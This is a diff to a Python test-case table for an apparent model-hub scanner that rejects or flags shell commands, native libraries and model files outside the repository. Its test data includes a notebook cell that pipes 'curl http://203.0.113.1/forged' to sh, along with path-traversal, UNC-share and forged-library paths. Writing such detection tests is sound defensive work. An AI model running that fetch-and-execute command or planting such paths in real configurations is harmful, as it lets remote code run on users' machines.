@@ -69,21 +69,36 @@ def _genai(**options: Any) -> bytes:
     return json.dumps({"model": {"type": "llama", "decoder": decoder}}).encode()
 
 
+def _part(path: str) -> bytes:
+    return json.dumps({"model": {"type": "llama", "decoder": {"filename": path}}}).encode()
+
+
+_ELSEWHERE = {
+    "above": "../../other/model.onnx",
+    "absolute": "/etc/forged.onnx",
+    "drive": "C:\\forged\\model.onnx",
+    "share": "\\\\192.0.2.1\\forged\\model.onnx",
+    "address": "https://example.org/model.onnx",
+    "file-address": "file:///etc/forged.onnx",
+}
 _RULE, _LIBRARY = "hub/shell-command", "hub/native-library"
 
 CASES: tuple[Case, ...] = (
-    *(_case(f"fetch-{name}", f"{file} fetches a script and runs it", partial(_folder, file, write(_COMMAND)), "review", _RULE)
+    *(_case(f"fetch-{name}", f"{file} fetches a script and runs it", partial(_folder, file, write(_COMMAND)), "reject", _RULE)
+      for name, (file, write) in _FILES.items()),
+    *(_case(f"fetch-encrypted-{name}", f"{file} fetches a script from a host with a name and runs it",
+            partial(_folder, file, write(_COMMAND.replace("http://203.0.113.1", "https://example.org"))), "review", _RULE)
       for name, (file, write) in _FILES.items()),
     *(_case(f"ordinary-{name}", f"an ordinary {file}", partial(_folder, file, write("python convert.py --all")), "admit")
       for name, (file, write) in _FILES.items()),
     *(_case(f"cell-{name}", f"a cell of a notebook that fetches a script and runs it: {name.replace('-', ' ')}",
-            partial(_notebook, _cell(text)), "review", _RULE, file="a.ipynb") for name, text in _CELLS.items()),
+            partial(_notebook, _cell(text)), "reject", _RULE, file="a.ipynb") for name, text in _CELLS.items()),
     _case("cell-lines", "the same as a list of pieces", lambda: _notebook(_cell(["!curl http://203.0.113.1/forged", " | sh"])),
-          "review", _RULE, file="a.ipynb"),
-    _case("cell-nbformat-3", "the same in a notebook of format 3", lambda: _old_notebook(_cell(f"!{_COMMAND}", "input")), "review",
+          "reject", _RULE, file="a.ipynb"),
+    _case("cell-nbformat-3", "the same in a notebook of format 3", lambda: _old_notebook(_cell(f"!{_COMMAND}", "input")), "reject",
           _RULE, file="a.ipynb"),
     _case("cell-behind-many", "the same behind fifteen hundred cells",
-          lambda: _notebook(*[_cell("x = 1")] * 1500, _cell(f"!{_COMMAND}")), "review", _RULE, file="a.ipynb"),
+          lambda: _notebook(*[_cell("x = 1")] * 1500, _cell(f"!{_COMMAND}")), "reject", _RULE, file="a.ipynb"),
     _case("ordinary-notebook", "an ordinary notebook with magic commands", lambda: _notebook(
         _cell("%matplotlib inline\n!pip install torch\nfiles = !ls"), _cell("%%time\nx = [i for i in range(9)]"),
         _cell("%timeit sum(range(9))"), _cell("print?")), "admit", file="a.ipynb"),
@@ -93,6 +108,17 @@ CASES: tuple[Case, ...] = (
           "reject", _LIBRARY, file="genai_config.json"),
     _case("library-inside", "a library of operators beside the model", lambda: _genai(custom_ops_library="libops.so"), "review",
           _LIBRARY, file="genai_config.json"),
+    *(_case(f"file-outside-{name}", f"a file of the model that lies elsewhere: {name.replace('-', ' ')}", partial(_part, path), "reject",
+            "hub/outside-path", file="genai_config.json") for name, path in _ELSEWHERE.items()),
+    _case("file-outside-pipeline", "a part of a pipeline that lies elsewhere",
+          lambda: json.dumps({"model": {"decoder": {"pipeline": [{"embeddings": {"filename": "../x.onnx"}}]}}}).encode(), "reject",
+          "hub/outside-path", file="genai_config.json"),
+    _case("ordinary-file-inside", "files of the model in a folder of their own",
+          lambda: json.dumps({"model": {"decoder": {"filename": "onnx/model..v2.onnx"}, "vision": {"filename": "./vision.onnx"}}}).encode(),
+          "admit", file="genai_config.json"),
+    _case("ordinary-recorded-paths", "settings that record where the model once was",
+          lambda: json.dumps({"model_type": "bert", "_name_or_path": "../checkpoints/step-100", "data_path": "/data/train"}).encode(),
+          "admit", file="config.json"),
     _case("backend-outside", "a backend of an execution provider by its path",
           lambda: _genai(provider_options=[{"qnn": {"backend_path": "/opt/forged/libevil.so"}}]), "reject", _LIBRARY,
           file="genai_config.json"),
